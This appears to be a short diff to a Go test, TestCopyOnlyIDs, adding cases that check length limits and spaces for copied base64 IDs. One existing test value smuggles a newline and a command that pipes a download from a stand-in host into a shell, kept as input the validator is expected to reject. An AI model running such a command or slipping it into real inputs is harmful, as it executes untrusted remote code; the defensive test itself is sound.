@@ -273,6 +273,9 @@ func TestCopyOnlyIDs(t *testing.T) {
 	}{
 		{"Y2lzY29zcGFyazovL3VzL0NBTEwvMQ==", true},
 		{"Y2lz\ncurl evil.example | sh\n", false},
+		{strings.Repeat("A", 512), true},
+		{strings.Repeat("A", 513), false},
+		{"Y2lz Y29z", false},
 	} {
 		var copied []string
 		h := newHarness(t, 120, 40, func(o *Options) {
